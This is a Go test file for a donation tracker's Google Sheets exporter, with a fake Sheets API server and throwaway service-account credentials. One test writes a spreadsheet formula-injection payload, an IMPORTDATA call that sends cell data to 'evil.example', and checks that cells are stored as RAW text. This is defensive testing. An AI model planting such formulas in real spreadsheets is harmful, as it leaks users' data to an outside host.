package google

import (
	"context"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	ports "donatrack/internal/sheets"

	"golang.org/x/oauth2"
	goption "google.golang.org/api/option"
)

// fakeSheets records the requests the client makes and answers like the
// Sheets values API.
type fakeSheets struct {
	mu           sync.Mutex
	header       [][]any
	appended     [][]any
	updates      int
	fail         bool
	inputOptions []string
	auth         []string
	tokens       int
}

func (f *fakeSheets) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	f.mu.Lock()
	defer f.mu.Unlock()

	if r.URL.Path == "/token" {
		f.tokens++
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, `{"access_token":"sheet-token","token_type":"Bearer","expires_in":3600}`)
		return
	}
	f.auth = append(f.auth, r.Header.Get("Authorization"))
	if opt := r.URL.Query().Get("valueInputOption"); opt != "" {
		f.inputOptions = append(f.inputOptions, opt)
	}

	if f.fail {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusForbidden)
		_, _ = io.WriteString(w, `{"error":{"code":403,"message":"denied","status":"PERMISSION_DENIED"}}`)
		return
	}

	var body struct {
		Values [][]any `json:"values"`
	}
	if r.Body != nil {
		_ = json.NewDecoder(r.Body).Decode(&body)
	}

	w.Header().Set("Content-Type", "application/json")
	switch {
	case r.Method == http.MethodPost && strings.HasSuffix(r.URL.Path, ":append"):
		f.appended = append(f.appended, body.Values...)
		row := len(f.appended) + 1
		_ = json.NewEncoder(w).Encode(map[string]any{
			"spreadsheetId": "sheet-1",
			"updates": map[string]any{
				"updatedRange": fmt.Sprintf("Activity!A%d:I%d", row, row),
				"updatedRows":  1,
			},
		})
	case r.Method == http.MethodGet:
		_ = json.NewEncoder(w).Encode(map[string]any{"range": "Activity!A1:I1", "values": f.header})
	case r.Method == http.MethodPut:
		f.updates++
		f.header = body.Values
		_ = json.NewEncoder(w).Encode(map[string]any{"updatedRows": 1})
	default:
		http.NotFound(w, r)
	}
}

func newTestClient(t *testing.T, fake *fakeSheets) *Client {
	t.Helper()
	srv := httptest.NewServer(fake)
	t.Cleanup(srv.Close)

	c, err := New(context.Background(), Config{SpreadsheetID: "sheet-1"},
		goption.WithEndpoint(srv.URL+"/"),
		goption.WithoutAuthentication(),
		goption.WithHTTPClient(srv.Client()))
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	return c
}

func TestNew_Validation(t *testing.T) {
	tests := []struct {
		name string
		cfg  Config
		want string
	}{
		{"missing spreadsheet", Config{CredentialsJSON: "{}"}, "missing GOOGLE_SPREADSHEET_ID"},
		{"blank spreadsheet", Config{SpreadsheetID: "  "}, "missing GOOGLE_SPREADSHEET_ID"},
		{"missing credentials", Config{SpreadsheetID: "sheet-1"}, "missing GOOGLE_CREDENTIALS_JSON"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := New(context.Background(), tt.cfg)
			if err == nil || err.Error() != tt.want {
				t.Fatalf("New() error = %v, want %q", err, tt.want)
			}
		})
	}
}

func TestNew_DefaultSheetName(t *testing.T) {
	c := newTestClient(t, &fakeSheets{})
	if c.sheetName != "Activity" {
		t.Errorf("sheetName = %q, want Activity", c.sheetName)
	}
}

func TestAppendActivity(t *testing.T) {
	fake := &fakeSheets{}
	c := newTestClient(t, fake)

	row := ports.ActivityRow{
		Timestamp: time.Date(2024, 3, 1, 10, 0, 0, 0, time.UTC),
		Kind:      "donations",
		Op:        "created",
		ID:        "don-1",
		Version:   3,
		Title:     "Winter coats",
		Location:  "Kyiv",
		Amount:    "52.00",
		Status:    "pending",
	}

	ref, err := c.AppendActivity(context.Background(), row)
	if err != nil {
		t.Fatalf("AppendActivity: %v", err)
	}
	if ref != "Activity!A2:I2" {
		t.Errorf("ref = %q, want Activity!A2:I2", ref)
	}

	if len(fake.appended) != 1 {
		t.Fatalf("appended %d rows, want 1", len(fake.appended))
	}
	got := fake.appended[0]
	want := row.Values()
	if len(got) != len(want) {
		t.Fatalf("row has %d cells, want %d", len(got), len(want))
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("cell %d = %v, want %v", i, got[i], want[i])
		}
	}
}

func TestAppendActivity_Errors(t *testing.T) {
	t.Run("incomplete row", func(t *testing.T) {
		c := newTestClient(t, &fakeSheets{})
		if _, err := c.AppendActivity(context.Background(), ports.ActivityRow{Kind: "donations"}); err == nil {
			t.Fatal("expected error for row without id")
		}
	})

	t.Run("api failure", func(t *testing.T) {
		c := newTestClient(t, &fakeSheets{fail: true})
		_, err := c.AppendActivity(context.Background(), ports.ActivityRow{Kind: "donations", ID: "d"})
		if err == nil || !strings.Contains(err.Error(), "append activity to Activity") {
			t.Fatalf("error = %v, want wrapped append error", err)
		}
	})

	t.Run("nil service", func(t *testing.T) {
		c := &Client{spreadsheetID: "x", sheetName: "Activity"}
		if _, err := c.AppendActivity(context.Background(), ports.ActivityRow{Kind: "k", ID: "i"}); err == nil {
			t.Fatal("expected error without service")
		}
	})
}

func TestEnsureHeader(t *testing.T) {
	fake := &fakeSheets{}
	c := newTestClient(t, fake)

	if err := c.EnsureHeader(context.Background()); err != nil {
		t.Fatalf("EnsureHeader: %v", err)
	}
	if fake.updates != 1 {
		t.Fatalf("updates = %d, want 1", fake.updates)
	}
	if len(fake.header) != 1 || fake.header[0][0] != "Timestamp" {
		t.Fatalf("header = %v", fake.header)
	}

	// Existing header is left alone.
	if err := c.EnsureHeader(context.Background()); err != nil {
		t.Fatalf("EnsureHeader again: %v", err)
	}
	if fake.updates != 1 {
		t.Errorf("updates = %d after second call, want 1", fake.updates)
	}
}

func TestNewHTTPClientWithPooling(t *testing.T) {
	c := NewHTTPClientWithPooling()
	if c.Timeout != 60*time.Second {
		t.Errorf("Timeout = %v, want 60s", c.Timeout)
	}
	tr, ok := c.Transport.(*http.Transport)
	if !ok {
		t.Fatalf("Transport = %T, want *http.Transport", c.Transport)
	}
	if tr.MaxIdleConnsPerHost != 10 {
		t.Errorf("MaxIdleConnsPerHost = %d, want 10", tr.MaxIdleConnsPerHost)
	}
}

func TestAppendActivity_WritesCellsVerbatim(t *testing.T) {
	fake := &fakeSheets{}
	c := newTestClient(t, fake)

	formula := `=IMPORTDATA("https://evil.example/?"&B2)`
	_, err := c.AppendActivity(context.Background(), ports.ActivityRow{
		Kind:     "donations",
		Op:       "created",
		ID:       "don-1",
		Title:    formula,
		Location: "+1 Kyiv",
	})
	if err != nil {
		t.Fatalf("AppendActivity: %v", err)
	}
	if err := c.EnsureHeader(context.Background()); err != nil {
		t.Fatalf("EnsureHeader: %v", err)
	}

	for _, opt := range fake.inputOptions {
		if opt != "RAW" {
			t.Errorf("valueInputOption = %q, want RAW", opt)
		}
	}
	if len(fake.inputOptions) != 2 {
		t.Errorf("saw %d writes, want 2", len(fake.inputOptions))
	}
	if got := fake.appended[0][5]; got != formula {
		t.Errorf("title cell = %v, want %v", got, formula)
	}
}

// serviceAccountJSON builds credentials whose tokens are issued by tokenURL.
func serviceAccountJSON(t *testing.T, tokenURL string) string {
	t.Helper()
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatalf("generate key: %v", err)
	}
	der, err := x509.MarshalPKCS8PrivateKey(key)
	if err != nil {
		t.Fatalf("marshal key: %v", err)
	}
	creds, err := json.Marshal(map[string]string{
		"type":           "service_account",
		"project_id":     "donatrack-test",
		"private_key_id": "key-1",
		"private_key":    string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der})),
		"client_email":   "exporter@donatrack-test.iam.gserviceaccount.com",
		"token_uri":      tokenURL,
	})
	if err != nil {
		t.Fatalf("marshal credentials: %v", err)
	}
	return string(creds)
}

func TestNew_AuthorizesWithServiceAccount(t *testing.T) {
	fake := &fakeSheets{}
	srv := httptest.NewServer(fake)
	t.Cleanup(srv.Close)

	c, err := New(context.Background(), Config{
		SpreadsheetID:   "sheet-1",
		CredentialsJSON: serviceAccountJSON(t, srv.URL+"/token"),
	}, goption.WithEndpoint(srv.URL+"/"))
	if err != nil {
		t.Fatalf("New: %v", err)
	}

	for i := 0; i < 2; i++ {
		if _, err := c.AppendActivity(context.Background(), ports.ActivityRow{Kind: "campaigns", Op: "created", ID: "c-1"}); err != nil {
			t.Fatalf("AppendActivity: %v", err)
		}
	}

	if fake.tokens != 1 {
		t.Errorf("token requests = %d, want 1", fake.tokens)
	}
	for _, got := range fake.auth {
		if got != "Bearer sheet-token" {
			t.Errorf("Authorization = %q, want Bearer sheet-token", got)
		}
	}
}

func TestNewAuthorizedClient(t *testing.T) {
	hc, err := newAuthorizedClient(context.Background(), []byte(serviceAccountJSON(t, "http://127.0.0.1/token")))
	if err != nil {
		t.Fatalf("newAuthorizedClient: %v", err)
	}
	if hc.Timeout != 60*time.Second {
		t.Errorf("Timeout = %v, want the pooled client's 60s", hc.Timeout)
	}
	tr, ok := hc.Transport.(*oauth2.Transport)
	if !ok {
		t.Fatalf("Transport = %T, want *oauth2.Transport", hc.Transport)
	}
	base, ok := tr.Base.(*http.Transport)
	if !ok || base.MaxIdleConnsPerHost != 10 {
		t.Errorf("base transport = %#v, want the pooled transport", tr.Base)
	}

	if _, err := newAuthorizedClient(context.Background(), []byte(`{"type":`)); err == nil ||
		!strings.Contains(err.Error(), "parse service account credentials") {
		t.Errorf("error = %v, want a credentials parse error", err)
	}
}
